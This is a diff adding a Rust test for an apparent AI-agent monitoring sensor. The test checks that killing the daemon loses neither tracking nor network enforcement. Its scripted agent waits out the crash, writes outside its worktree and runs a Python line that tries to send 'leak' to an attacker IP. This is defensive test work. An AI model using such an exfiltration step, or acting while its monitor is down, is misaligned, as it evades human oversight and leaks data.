@@ -368,3 +368,122 @@ fn freeze_stops_the_whole_tree_until_a_human_decides() {
         "processes left in the agent's cgroup: {procs}"
     );
 }
+
+/// Removes a `--persist` daemon's pins and keeper at the end of a test.
+struct Uninstall(PathBuf);
+
+impl Drop for Uninstall {
+    fn drop(&mut self) {
+        let _ = Command::new(sensor_binary())
+            .args(["uninstall", "--persist-dir"])
+            .arg(&self.0)
+            .output();
+    }
+}
+
+#[test]
+fn kill_9_of_the_daemon_loses_neither_tracking_nor_enforcement() {
+    if !can_run_kernel_tests("kill_9_of_the_daemon_loses_neither_tracking_nor_enforcement") {
+        return;
+    }
+    let scene = Scene::new("restart", "");
+    let attacker = NetNs::new();
+    let record = scene.root.join("received");
+    let _listener = attacker.listen(9000, false, &record);
+    let pins = PathBuf::from(format!(
+        "/sys/fs/bpf/agent-sensor-test-{}",
+        std::process::id()
+    ));
+    let _uninstall = Uninstall(pins.clone());
+    let args = [
+        "--policy",
+        s(&scene.policy),
+        "--mode",
+        "enforce",
+        "--persist",
+        s(&pins),
+    ];
+    let first = Sensor::start_in(TempDir::new("restart-sensor"), &args);
+    let outside = scene.root.join("outside");
+    std::fs::create_dir_all(&outside).unwrap();
+    let result = scene.root.join("result");
+    // The agent waits out the crash, then writes outside its worktree and tries to leak.
+    let started = scene.root.join("started");
+    let script = format!(
+        "touch {started}; sleep 2; echo x > {out}/while-down; /usr/bin/python3 -c \"import socket\n\
+         try:\n\
+         \x20   socket.create_connection(('{ip}', 9000), timeout=3).sendall(b'leak'); r = 'sent'\n\
+         except OSError as e: r = 'blocked'\n\
+         open('{result}', 'w').write(r)\"; sleep 2",
+        started = s(&started),
+        out = s(&outside),
+        ip = attacker.remote_ip,
+        result = s(&result)
+    );
+    let mut agent = Command::new(sensor_binary())
+        .args([
+            "exec",
+            "--agent",
+            "survivor",
+            "--worktree",
+            s(&scene.worktree),
+            "--control-socket",
+        ])
+        .arg(&first.socket)
+        .args(["--", "/bin/sh", "-c", &script])
+        .spawn()
+        .unwrap();
+    let deadline = Instant::now() + Duration::from_secs(10);
+    // Running means registered, tracked by the kernel and confirmed by the daemon.
+    while !started.exists() {
+        assert!(Instant::now() < deadline, "the agent never started");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let dir = first.crash();
+    // While no daemon runs: the write and the connection attempt happen.
+    let deadline = Instant::now() + Duration::from_secs(15);
+    while !result.exists() {
+        assert!(
+            Instant::now() < deadline,
+            "the agent never tried to connect"
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    assert_eq!(
+        std::fs::read_to_string(&result).unwrap(),
+        "blocked",
+        "enforcement lapsed"
+    );
+    assert!(
+        std::fs::read(&record).unwrap().is_empty(),
+        "the attacker received data"
+    );
+    // The next daemon takes over: the agent is known again, and what happened while no
+    // daemon ran was kept in the ring buffer and is judged now.
+    let mut second = Sensor::start_in(dir, &args);
+    let deadline = Instant::now() + Duration::from_secs(15);
+    let while_down = loop {
+        let found = second.alerts().into_iter().find(|a| {
+            a["rule"] == "isolation.write_outside_worktree"
+                && a["summary"].as_str().unwrap_or("").contains("while-down")
+        });
+        if found.is_some() || Instant::now() > deadline {
+            break found;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    };
+    let _ = agent.wait();
+    second.stop_only();
+    assert!(
+        while_down.is_some(),
+        "the write made while the daemon was down raised no alert"
+    );
+    assert!(
+        second
+            .log
+            .iter()
+            .any(|l| l.contains("restored agent survivor")),
+        "{:#?}",
+        second.log
+    );
+}
